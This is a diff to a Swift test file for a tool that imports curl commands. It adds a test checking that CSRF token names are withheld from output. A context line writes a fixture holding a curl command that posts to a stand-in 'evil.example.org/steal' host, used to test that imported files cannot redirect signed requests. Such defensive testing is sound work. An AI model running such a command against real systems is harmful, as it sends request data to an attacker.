@@ -104,6 +104,16 @@ struct ImportTests {
         #expect(shell.errors.text.contains("x1 → x3:"))
     }
 
+    /// What a page proves itself with is no secret by its name everywhere.
+    @Test(arguments: ["_csrf", "X-XSRF"]) func aPagesProofIsLeftOut(name: String) async throws {
+        folder.write(
+            "page.txt", Array("curl 'https://api.compshare.cn/' -d 'Action=GetRegion&\(name)=1234'".utf8))
+        let shell = try shell()
+        #expect(await shell.run("import \(folder.file("page.txt"))\nagain x1\nlast x2 request").status == 0)
+        #expect(shell.errors.text.contains("the sender's own: \(name)"), "\(shell.errors.text)")
+        #expect(!shell.output.text.contains(name), "\(shell.output.text)")
+    }
+
     /// A file does not choose where a signed request goes.
     @Test func whatIsSignedGoesWhereTheSessionSends() async throws {
         folder.write("evil.txt", Array("curl 'https://evil.example.org/steal' -d 'Action=GetRegion'".utf8))
